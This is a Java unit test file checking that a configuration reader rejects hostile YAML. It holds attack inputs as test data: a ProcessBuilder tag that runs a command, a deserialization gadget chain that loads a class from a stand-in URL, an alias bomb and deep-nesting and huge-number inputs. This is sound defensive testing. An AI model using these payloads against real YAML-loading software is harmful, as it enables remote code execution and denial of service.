package io.sparbiter.driver.config;

import static org.assertj.core.api.Assertions.assertThat;

import io.sparbiter.driver.config.space.SpaceReader;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Collections;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class HostileYamlTest {
    private static final String PLAINLY =
            "    Write it out plainly: no deep nesting, few aliases, printable characters.";

    @TempDir
    Path folder;

    private ConfigFolder files;

    @BeforeEach
    void files() {
        files = ConfigFolder.in(folder);
    }

    @Test
    void aTagThatNamesAClassIsRefused() {
        assertThat(files.complaintWithSpace("seed: !!java.lang.ProcessBuilder [touch, /tmp/x]\n"))
                .isEqualTo("x.yaml:2: the tag !!java.lang.ProcessBuilder is not allowed.\n"
                        + "    Remove it; plain YAML is enough.");
        assertThat(files.complaintWithSpace("seed: !mine 3\n"))
                .isEqualTo("x.yaml:2: the tag !mine is not allowed.\n    Remove it; plain YAML is enough.");
    }

    /** What would load a class from the network in a program that constructs what YAML names. */
    @Test
    void aChainOfTagsThatLoadsCodeIsRefusedInEveryFile() {
        String chain =
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]";
        String refused =
                "the tag !!javax.script.ScriptEngineManager is not allowed.\n" + "    Remove it; plain YAML is enough.";

        assertThat(files.complaintWithSpace("start: " + chain + "\n")).startsWith("x.yaml:2: " + refused);
        assertThat(files.complaint("space: " + chain + "\n")).contains("x.yaml:1: " + refused);
        assertThat(files.complaintAboutAxes("conv_1_filters: " + chain + "\n")).startsWith("y.yaml:2: " + refused);
        assertThat(files.complaintWithSpace("seed: 1\n", "data.source=" + chain))
                .startsWith("--set data.source=" + chain + ": " + refused);
    }

    @Test
    void aTagDoesNotMakeAWordANumber() {
        assertThat(files.complaintWithSpace("network: {l1: !!float 1d, dropout: !!int x}\nseed: !!bool x\n"))
                .isEqualTo("""
                        x.yaml:2: network.l1 (1d) must be a number.
                            Maybe you meant 0.00001, the default.
                        x.yaml:2: network.dropout (x) must be a number.
                            Maybe you meant 0.3, the default.
                        x.yaml:3: seed (x) must be an integer.
                            Leave it out to have one drawn.""");
    }

    @Test
    void aliasesThatMultiplyAreRefused() {
        var laughs = new StringBuilder("l0: &l0 [ha]\n");
        for (int i = 1; i < 10; i++) {
            String last = "*l" + (i - 1);
            laughs.append("l%d: &l%d [%s]\n".formatted(i, i, String.join(", ", Collections.nCopies(9, last))));
        }

        assertThat(files.complaint(laughs.toString()))
                .isEqualTo("x.yaml: this can't be read as YAML: Number of aliases for non-scalar nodes exceeds"
                        + " the specified max=50.\n" + PLAINLY);
    }

    @Test
    void fewAliasesThatMultiplyAreReadOnce() {
        var doubled = new StringBuilder("space: space.yaml\nl0: &l0 [ha]\n");
        IntStream.range(1, 25).forEach(i -> doubled.append("l%d: &l%d [*l%d, *l%d]\n".formatted(i, i, i - 1, i - 1)));

        assertThat(files.complaint(doubled.toString())).startsWith("x.yaml:2: l0 is not a known key.");
    }

    @Test
    void aliasesInACircleAreRefused() {
        assertThat(files.complaintWithSpace("start: &a [*a]\n")).isEqualTo("""
                        x.yaml:2: an alias refers to what it is part of.
                            Write the values out.
                        x.yaml:2: start[0] () must be a map of axes.
                            Write it like {axis: value, …}.""");
    }

    @Test
    void deepNestingIsRefused() {
        assertThat(files.complaint("start: " + "[".repeat(5000)))
                .isEqualTo("x.yaml: this can't be read as YAML: Nesting Depth exceeded max 20.\n" + PLAINLY);
    }

    @Test
    void largeFilesAreRefused() {
        assertThat(files.complaint("#" + "x".repeat(1 << 20)))
                .isEqualTo("x.yaml: x.yaml is larger than 1 MiB.\n"
                        + "    Configurations are small; maybe you meant another file.");
    }

    @Test
    void numbersOfManyDigitsAreRefused() {
        assertThat(files.complaintWithSpace("seed: !!int " + "9".repeat(500_000)))
                .isEqualTo("x.yaml:2: seed (" + "9".repeat(60) + "…) must fit in 64 bits.\n"
                        + "    Leave it out to have one drawn.");
    }

    @Test
    void brokenYamlIsReportedWithLineAndColumn() {
        assertThat(files.complaint("space: space.yaml\ntraining:\n  epochs: 3: 4\n"))
                .isEqualTo("x.yaml:3: this is not YAML: mapping values are not allowed here (column 12).\n"
                        + "    Look for a missing quote, bracket or space after a colon, or a wrong indentation,"
                        + " here or just above.");
    }

    @Test
    void aSecondDocumentIsRefused() {
        assertThat(files.complaint("space: space.yaml\n---\nseed: 1\n"))
                .startsWith("x.yaml:2: this is not YAML: but found another document (column 1).");
    }

    @Test
    void aKeyGivenTwiceIsReported() {
        assertThat(files.complaintWithSpace("seed: 1\nseed: 2\n"))
                .isEqualTo("x.yaml:3: the key seed is already in x.yaml:2.\n    Keep one of the two.");
    }

    @Test
    void aKeyIsAWord() {
        assertThat(files.complaintWithSpace("? [a]\n: 1\n"))
                .isEqualTo("x.yaml:2: a key must be a word.\n    Write key: value.");
    }

    @Test
    void controlCharactersAreRefused() {
        String refused = " a value holds a line break or another control character.\n    Write it on one line.";

        assertThat(files.complaintWithSpace("data: {source: \"a\\0b\"}\n")).startsWith("x.yaml:2:" + refused);
        assertThat(files.complaintWithSpace("data: {source: \"\\e[31m\"}\n")).startsWith("x.yaml:2:" + refused);
    }

    @Test
    void textIsUtf8() throws IOException {
        Path file = Files.write(folder.resolve("latin.yaml"), new byte[] {'#', (byte) 0xE4, '\n'});

        assertThat(files.message(() -> SpaceReader.read(file)))
                .isEqualTo("latin.yaml: latin.yaml is not text in UTF-8.\n"
                        + "    Save it in UTF-8; maybe you meant another file.");
    }

    @Test
    void aFolderIsNoFile() {
        assertThat(files.message(() -> SpaceReader.read(folder)))
                .isEqualTo(folder + ": " + folder + " is a folder.\n    Name a file in it.");
    }
}
